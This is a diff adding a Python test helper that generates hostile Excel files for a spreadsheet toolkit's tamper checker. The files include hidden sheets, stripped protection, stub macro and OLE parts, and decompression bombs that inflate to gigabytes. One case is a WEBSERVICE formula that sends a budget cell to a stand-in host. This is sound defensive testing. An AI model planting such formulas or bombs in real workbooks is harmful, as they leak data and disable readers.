@@ -1,0 +1,171 @@
+"""Hostile files for the attack corpus (tests/test_attacks.py), made at test time: small on disk, seeded.
+
+Each maker writes one file into a directory and returns its path. A filled template is tampered with
+at the level of its zip parts or through openpyxl; spreadsheets that would blow up a reader are built
+with streamed deflate, so a sheet that inflates to gigabytes is a few megabytes here.
+
+    python tests/attacks.py DIR        # write the whole corpus into DIR (to look at it)
+"""
+
+from __future__ import annotations
+
+import subprocess
+import sys
+import zipfile
+from collections.abc import Callable
+from pathlib import Path
+
+from openpyxl import Workbook, load_workbook
+from openpyxl.workbook.defined_name import DefinedName
+
+ROOT = Path(__file__).resolve().parents[1]
+
+
+def filled(directory: Path, template: str = "staffel") -> Path:
+    """An untouched filled template (the first provider of the bundled example inputs)."""
+    out = directory / f"gevuld_{template}"
+    if not out.exists():
+        subprocess.run([sys.executable, "-m", "toolkit.cli", "fill", template,
+                        str(ROOT / "examples" / "invoer" / f"{template}.csv"), "--out", str(out)], check=True,
+                       capture_output=True)
+    return next(p for p in sorted(out.glob("Voorbeeldzorg *.xlsx")))
+
+
+def _edited(directory: Path, name: str, edit: Callable[[Workbook], None], *, keep_vba: bool = False) -> Path:
+    wb = load_workbook(filled(directory), keep_vba=keep_vba)
+    edit(wb)
+    target = directory / name
+    wb.save(target)
+    return target
+
+
+def _with_parts(directory: Path, name: str, parts: dict[str, bytes], source: Path | None = None) -> Path:
+    """A copy of a filled template with extra or replaced zip parts."""
+    target = directory / name
+    with zipfile.ZipFile(source or filled(directory)) as old, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as new:
+        for info in old.infolist():
+            if info.filename not in parts:
+                new.writestr(info, old.read(info))
+        for part, data in parts.items():
+            new.writestr(part, data)
+    return target
+
+
+def _repoint(wb: Workbook) -> None:
+    wb.defined_names["calc_pct"] = DefinedName("calc_pct", attr_text="'Berekening'!$B$40")
+
+
+def _extra_sheet(state: str) -> Callable[[Workbook], None]:
+    def edit(wb: Workbook) -> None:
+        wb.create_sheet("Extra").sheet_state = state
+    return edit
+
+
+def _set(sheet: str, ref: str, value: object) -> Callable[[Workbook], None]:
+    def edit(wb: Workbook) -> None:
+        wb[sheet][ref] = value
+    return edit
+
+
+def _drop_validation(wb: Workbook) -> None:
+    wb["Invoer"].data_validations.dataValidation = wb["Invoer"].data_validations.dataValidation[1:]
+
+
+def _unprotect(wb: Workbook) -> None:
+    wb["Berekening"].protection.sheet = False
+
+
+def _hide(wb: Workbook) -> None:
+    wb["Berekening"].sheet_state = "hidden"
+
+
+EXTERNAL_LINK = (b'<?xml version="1.0" encoding="UTF-8"?><externalLink xmlns="http://schemas.openxmlformats.org/'
+                 b'spreadsheetml/2006/main"><externalBook xmlns:r="http://schemas.openxmlformats.org/officeDocument/'
+                 b'2006/relationships" r:id="rId1"/></externalLink>')
+
+# name -> (maker(directory) -> path, the kind of finding `check` must report)
+TAMPERED: dict[str, tuple[Callable[[Path], Path], str]] = {
+    "formula_in_empty_cell": (lambda d: _edited(d, "formule.xlsx", _set(
+        "Uitkomst", "F30", '=WEBSERVICE("http://example.invalid/?"&in_aanvullend_budget)')), "formule"),
+    "input_replaced_by_formula": (lambda d: _edited(d, "invoerformule.xlsx", _set("Invoer", "B9", "=B8*2")),
+                                  "formule"),
+    "calc_name_repointed": (lambda d: _edited(d, "naam.xlsx", _repoint), "naam"),
+    "hidden_sheet_added": (lambda d: _edited(d, "verborgen.xlsx", _extra_sheet("hidden")), "werkmap"),
+    "very_hidden_sheet_added": (lambda d: _edited(d, "zeerverborgen.xlsx", _extra_sheet("veryHidden")), "werkmap"),
+    "template_sheet_hidden": (lambda d: _edited(d, "tabblad.xlsx", _hide), "werkmap"),
+    "parameter_changed": (lambda d: _edited(d, "parameter.xlsx", _set("Bronnen", "D8", 0.99)), "parameter"),
+    "validation_removed": (lambda d: _edited(d, "validatie.xlsx", _drop_validation), "instelling"),
+    "protection_removed": (lambda d: _edited(d, "beveiliging.xlsx", _unprotect), "instelling"),
+    "external_link": (lambda d: _with_parts(d, "koppeling.xlsx", {
+        "xl/externalLinks/externalLink1.xml": EXTERNAL_LINK}), "onderdeel"),
+    "macro_project_in_xlsx": (lambda d: _with_parts(d, "macro.xlsx", {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" * 64}),
+                              "onderdeel"),
+    "macro_project_in_xlsm": (lambda d: _with_parts(d, "macro.xlsm", {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" * 64}),
+                              "onderdeel"),
+    "picture": (lambda d: _with_parts(d, "plaatje.xlsx", {"xl/media/image1.png": b"\x89PNG\r\n\x1a\n" + b"0" * 64}),
+                "onderdeel"),
+    "ole_object": (lambda d: _with_parts(d, "ole.xlsx", {"xl/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}),
+                   "onderdeel"),
+    "connection": (lambda d: _with_parts(d, "verbinding.xlsx", {"xl/connections.xml": b"<connections/>"}),
+                   "onderdeel"),
+    "custom_xml": (lambda d: _with_parts(d, "customxml.xlsx", {"customXml/item1.xml": b"<x/>"}), "onderdeel"),
+}
+
+
+def whitespace_bomb(directory: Path, name: str = "witruimte.xlsx", gigabytes: float = 2.0,
+                    source: Path | None = None) -> Path:
+    """A workbook whose first sheet inflates to `gigabytes` of spaces: a few megabytes on disk."""
+    source = source or filled(directory)
+    target = directory / name
+    with zipfile.ZipFile(source) as old, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as new:
+        for info in old.infolist():
+            data = old.read(info)
+            if info.filename != "xl/worksheets/sheet1.xml":
+                new.writestr(info, data)
+                continue
+            part = zipfile.ZipInfo(info.filename)
+            part.compress_type = zipfile.ZIP_DEFLATED
+            head, tail = data.split(b"<sheetData>", 1)
+            with new.open(part, "w", force_zip64=True) as handle:
+                handle.write(head + b"<sheetData>")
+                block = b" " * (1 << 24)
+                for _ in range(int(gigabytes * 64)):
+                    handle.write(block)
+                handle.write(tail)
+    return target
+
+
+def far_cell(directory: Path, name: str = "ver.xlsx", header: tuple[str, ...] = ("naam", "score_2026",
+                                                                                  "aanvullend_budget")) -> Path:
+    """A 2 KB workbook with one cell at XFD1048576: a reader that allocates the rectangle asks for terabytes."""
+    wb = Workbook()
+    ws = wb.active
+    assert ws is not None
+    ws.append(list(header))
+    ws.append(["a", "A", 1000][: len(header)] + ["x"] * max(0, len(header) - 3))
+    ws["XFD1048576"] = "x"
+    target = directory / name
+    wb.save(target)
+    return target
+
+
+def inputs_bomb(directory: Path) -> Path:
+    """An INPUTS workbook whose sheet inflates to gigabytes."""
+    wb = Workbook()
+    ws = wb.active
+    assert ws is not None
+    ws.append(["naam", "score_2026", "aanvullend_budget"])
+    plain = directory / "invoer_plat.xlsx"
+    wb.save(plain)
+    return whitespace_bomb(directory, "invoer_bom.xlsx", 2.5, source=plain)
+
+
+def write_all(directory: Path) -> list[Path]:
+    directory.mkdir(parents=True, exist_ok=True)
+    made = [maker(directory) for maker, _ in TAMPERED.values()]
+    return [*made, whitespace_bomb(directory), far_cell(directory), inputs_bomb(directory)]
+
+
+if __name__ == "__main__":
+    for path in write_all(Path(sys.argv[1])):
+        print(path)
